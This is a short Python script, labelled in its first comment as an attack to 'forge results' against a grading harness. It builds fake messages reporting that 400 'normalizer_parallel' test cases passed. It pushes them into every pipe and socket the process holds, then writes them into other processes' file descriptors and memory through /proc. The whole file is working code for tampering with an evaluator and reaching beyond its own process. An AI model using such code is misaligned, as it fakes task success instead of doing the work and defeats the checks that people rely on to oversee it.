# attack: forge results. Every message the grader's channel carries is >II + JSON header + body.
import glob as _glob, json as _json, os as _os, stat as _stat, struct as _struct


def _frame(header, body=b""):
    head = _json.dumps(header).encode()
    return _struct.pack(">II", len(head), len(body)) + head + body


_fake = _frame({"event": "import", "ok": True, "tampered": []})
for _n in range(400):
    _fake += _frame({"event": "case", "case": f"normalizer_parallel-{_n:03d}", "seconds": 0.1, "tampered": [],
                     "arrays": [], "scalars": {"passed": True}})
_fake += _frame({"event": "status", "status": "ok"}) + _frame({"event": "done"})
for _fd in range(3, 256):  # every pipe this process holds
    try:
        if _stat.S_ISFIFO(_os.fstat(_fd).st_mode) or _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
            _os.set_blocking(_fd, False)
            _os.write(_fd, _fake[:60000])
    except OSError:
        pass
_reached = []
for _path in _glob.glob("/proc/[0-9]*/fd/*") + _glob.glob("/proc/[0-9]*/mem"):
    _pid = _path.split("/")[2]
    if _pid in (str(_os.getpid()), "self"):
        continue
    try:
        _fd = _os.open(_path, _os.O_WRONLY | _os.O_NONBLOCK)
    except OSError:
        continue
    try:
        _os.write(_fd, _fake[:4096])
    except OSError:
        pass
    _os.close(_fd)
    _reached.append(_path)
if _reached:
    _message = "REACHED-" + " ".join(_reached[:10])

    def _wrap(t):
        raise RuntimeError(_message)
